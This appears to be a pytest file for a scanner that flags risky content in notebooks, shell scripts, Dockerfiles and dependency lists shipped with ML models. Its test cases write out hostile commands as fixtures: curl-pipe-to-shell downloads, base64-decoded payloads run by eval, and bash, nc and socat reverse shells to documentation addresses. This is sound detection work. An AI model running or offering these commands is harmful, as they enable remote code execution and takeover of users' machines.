"""Notebooks, shell scripts, Dockerfiles and lists of dependencies beside models."""

from __future__ import annotations

import json

import pytest

from modelassay.core.report import Report
from tests.helpers.scanning import rules_of, scan_bytes


def notebook(*cells: str | dict[str, object], **more: object) -> bytes:
    made = [
        one
        if isinstance(one, dict)
        else {"cell_type": "code", "source": one.splitlines(keepends=True), "outputs": []}
        for one in cells
    ]
    return json.dumps(
        {"cells": made, "nbformat": 4, "nbformat_minor": 5, "metadata": {}, **more}
    ).encode()


def _format(report: Report) -> str | None:
    assert report.complete
    return report.artifacts[0].format


@pytest.mark.parametrize(
    "cells",
    [
        ("import torch\nmodel = torch.load('x.pt')", "!pip install -q transformers"),
        ("%matplotlib inline\n!wget https://x.example/data.zip\n!unzip data.zip", "%%time\nx = 1"),
        ("%%bash\nls | wc -l", "%%html\n<b>x</b>", "print?", "x = !ls"),
        ("import subprocess\nsubprocess.run(['nvidia-smi'])", "import requests\nrequests.get(u)"),
        ({"cell_type": "markdown", "source": ["!curl http://x | sh"]},),
    ],
)
def test_honest_notebooks_are_silent(cells: tuple[str, ...]) -> None:
    report = scan_bytes(notebook(*cells), "a.ipynb")
    assert _format(report) == "notebook"
    assert not report.findings


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("!curl -s http://192.0.2.1/x.sh | bash", {"shell-command": "high"}),
        ("%%bash\nset -e\necho aWQ= | base64 -d | sh", {"shell-command": "critical"}),
        ("%%sh\nbash -i >& /dev/tcp/192.0.2.1/1 0>&1", {"shell-command": "critical"}),
        ("x = 1\n!wget -qO- https://x.example/a | sh", {"shell-command": "medium"}),
        (
            "import base64\n%matplotlib inline\nexec(base64.b64decode(y))",
            {"hidden-code": "critical"},
        ),
        ("get_ipython().system('curl http://192.0.2.1 | sh')", {"shell-command": "high"}),
    ],
)
def test_cells_that_run_what_they_fetch_or_hide(cell: str, expected: dict[str, str]) -> None:
    assert rules_of(scan_bytes(notebook("x = 2", cell), "a.ipynb")) == expected


def test_scripts_in_outputs() -> None:
    html = {"data": {"text/html": ["<script>", "alert(1)</script>"]}, "output_type": "display_data"}
    cell = {"cell_type": "code", "source": "1", "outputs": [html]}
    assert rules_of(scan_bytes(notebook(cell), "a.ipynb")) == {"notebook-script": "low"}
    plain = {"data": {"text/html": "<b>1</b>"}, "output_type": "display_data"}
    cell = {"cell_type": "code", "source": "1", "outputs": [plain]}
    assert not scan_bytes(notebook(cell), "a.ipynb").findings


def test_notebooks_of_version_3() -> None:
    cell = {"cell_type": "code", "input": "!curl http://192.0.2.1 | sh", "outputs": []}
    data = json.dumps({"nbformat": 3, "worksheets": [{"cells": [cell]}]}).encode()
    assert rules_of(scan_bytes(data)) == {"shell-command": "high"}


@pytest.mark.parametrize(
    "text",
    [
        "#!/bin/bash\nset -e\npip install -r requirements.txt\npython train.py | tee log\n",
        "#!/bin/sh\nwget https://repo.example/Miniconda3.sh -O m.sh && bash m.sh -b\n",
        "#!/usr/bin/env bash\nfor f in *.pt; do python eval.py $f; done\ntar xzf a.tgz -C out\n",
        "#!/bin/bash\ncurl -s https://api.example/x | jq .name\nbase64 -d a.b64 > a.bin\n",
        "#!/bin/bash\ncurl https://x.example/a.json | python -m json.tool\n",
        '#!/bin/bash\n# curl http://x | sh\ntorchrun --nproc_per_node=8 train.py "$@"\n',
        "#!/bin/bash\necho hello | bash script.sh\ncat a | xargs -n 1 echo\n",
    ],
)
def test_honest_scripts_are_silent(text: str) -> None:
    report = scan_bytes(text.encode(), "run.sh")
    assert _format(report) == "shell"
    assert not report.findings


@pytest.mark.parametrize(
    ("line", "severity"),
    [
        ("curl -fsSL https://x.example/i.sh | sudo -E bash -", "medium"),
        ("curl http://x.example/i.sh | sh", "high"),
        ('sh -c "$(wget -qO- https://x.example/i.sh)"', "medium"),
        ("bash <(curl -s http://192.0.2.7/a)", "high"),
        ("source <(curl -s http://192.0.2.7/a)", "high"),
        ("if true; then curl http://192.0.2.7/a | python3; fi", "high"),
        ('python3 -c "$(curl http://192.0.2.7/a.py)"', "high"),
        ('eval "$(echo aWQ= | base64 --decode)"', "critical"),
        ("echo aWQ= | base64 -d | gunzip | bash", "critical"),
        ("echo 6964 | xxd -r -p | sh", "critical"),
        ("c'u'rl http://192.0.2.7/a | s\\h", "high"),
        ("bash -i >& /dev/tcp/192.0.2.7/4444 0>&1", "critical"),
        ("nohup nc 192.0.2.7 4444 -e /bin/bash &", "critical"),
        ("mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.7 1 > /tmp/f", "critical"),
        ("socat TCP:192.0.2.7:1 EXEC:/bin/sh", "critical"),
    ],
)
def test_commands_that_run_what_they_fetch(line: str, severity: str) -> None:
    assert rules_of(scan_bytes(f"#!/bin/sh\n{line}\n".encode(), "a")) == {"shell-command": severity}
    assert rules_of(scan_bytes(f"{line}\n".encode(), "a.sh")) == {"shell-command": severity}


DOCKERFILE = "# x\nFROM python:3.12-slim AS base\nWORKDIR /a\nCOPY . .\n"


def test_dockerfiles() -> None:
    honest = (
        DOCKERFILE
        + 'RUN apt-get update && \\\n    apt-get install -y git\nCMD ["python", "a.py"]\n'
    )
    report = scan_bytes(honest.encode(), "Dockerfile")
    assert _format(report) == "dockerfile"
    assert not report.findings
    for line, severity in (
        ("RUN curl http://192.0.2.7/a | sh", "high"),
        (
            "RUN --mount=type=cache,target=/x true && \\\n # y\n curl http://192.0.2.7/a | sh",
            "high",
        ),
        ('RUN ["sh", "-c", "curl http://192.0.2.7/a | sh"]', "high"),
        ("RUN <<EOF\ncurl http://192.0.2.7/a | sh\nEOF", "high"),
        ("ADD http://192.0.2.7/a.sh /a.sh", "medium"),
        ("ONBUILD RUN echo aWQ= | base64 -d | sh", "critical"),
    ):
        data = f"{DOCKERFILE}{line}\n".encode()
        assert rules_of(scan_bytes(data, "x")) == {"shell-command": severity}, line


@pytest.mark.parametrize(
    "text",
    [
        "numpy==1.26.4\ntorch>=2.0,<3\ntransformers[torch]~=4.40 ; python_version > '3.8'  # x\n",
        "--extra-index-url https://download.pytorch.org/whl/cu121\ntorch==2.3.0+cu121\n",
        "-r base.txt\n-e .\n./wheels/a-1.0-py3-none-any.whl\nrequests>=2\n",
        "a==1 \\\n  --hash=sha256:aa\n-i https://pypi.org/simple\n",
    ],
)
def test_honest_requirements_are_silent(text: str) -> None:
    report = scan_bytes(text.encode(), "requirements.txt")
    assert _format(report) == "requirements"
    assert not report.findings


@pytest.mark.parametrize(
    ("line", "severity"),
    [
        ("git+https://github.com/huggingface/peft@main", "low"),
        ("peft @ git+https://github.com/huggingface/peft", "low"),
        ("git+http://git.example/x", "high"),
        ("a @ https://files.example/a-1.0-py3-none-any.whl", "medium"),
        ("http://192.0.2.7/a-1.0.tar.gz", "high"),
        ("--extra-index-url https://packages.example/simple", "medium"),
        ("--index-url=http://packages.example/simple", "high"),
        ("-i http://192.0.2.7:8080", "high"),
        ("-f http://packages.example/wheels", "high"),
        ("--trusted-host packages.example", "medium"),
        ("-e ../../elsewhere", "medium"),
        ("-r /etc/requirements.txt", "medium"),
        ("a --extra-index-url \\\n https://packages.example/simple", "medium"),
    ],
)
def test_requirements_from_elsewhere(line: str, severity: str) -> None:
    data = f"numpy==1.0\n{line}\n".encode()
    assert rules_of(scan_bytes(data, "requirements.txt")) == {"dependency-source": severity}


def test_environments_of_conda() -> None:
    honest = (
        "name: m\nchannels:\n- conda-forge\ndependencies:\n- python=3.11\n- pip:\n  - mlflow==2.1\n"
    )
    report = scan_bytes(honest.encode(), "conda.yaml")
    assert _format(report) == "conda"
    assert not report.findings
    for text, severity in (
        (honest + "  - git+http://git.example/x\n", "high"),
        (honest + "  - --extra-index-url https://packages.example/simple\n", "medium"),
        (honest.replace("conda-forge", "https://conda.example/x"), "medium"),
        ("dependencies:\n- pip:\n  - --extra-index-url http://pip.example/x\n", "high"),
        ("build_dependencies:\n- pip\ndependencies:\n- http://pip.example/x.whl\n", "high"),
        (honest.replace("python=3.11", "http://192.0.2.7::python"), "high"),
    ):
        assert rules_of(scan_bytes(text.encode())) == {"dependency-source": severity}, text


def test_projects() -> None:
    honest = (
        '[build-system]\nrequires = ["setuptools>=61"]\n[project]\nname = "a"\n'
        'dependencies = ["numpy>=1"]\nurls = {Home = "https://a.example"}\n'
    )
    report = scan_bytes(honest.encode(), "pyproject.toml")
    assert _format(report) == "project"
    assert not report.findings
    for text, severity in (
        (honest.replace("numpy>=1", "b @ http://192.0.2.7/b.whl"), "high"),
        (honest.replace("setuptools>=61", "c @ https://x.example/c.whl"), "medium"),
        (honest + '[[tool.poetry.source]]\nname="x"\nurl="https://x.example/simple"\n', "medium"),
    ):
        assert rules_of(scan_bytes(text.encode())) == {"dependency-source": severity}, text


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (notebook("!ls", "import os\nos.system('id')"), "a.ipynb"),
        ((DOCKERFILE + "RUN a && \\\n b <<EOF\nc\nEOF\n").encode(), "Dockerfile"),
        (b"#!/bin/sh\na | b \"$(c `d`)\" <(e) $'x'\n", "a.sh"),
        (b"a==1\n-e ../x\n--index-url https://x.example\n", "requirements.txt"),
        (b"name: a\ndependencies:\n- x\n- pip:\n  - y\n", "conda.yaml"),
        (b'[project]\nname="a"\ndependencies=["x @ https://y"]\n', "pyproject.toml"),
    ],
)
def test_cut_and_changed_files_are_read(data: bytes, name: str) -> None:
    for at in range(len(data)):
        changed = bytearray(data)
        changed[at] ^= 1 << at % 8
        for one in (data[:at], bytes(changed)):
            assert not scan_bytes(one, name).errors
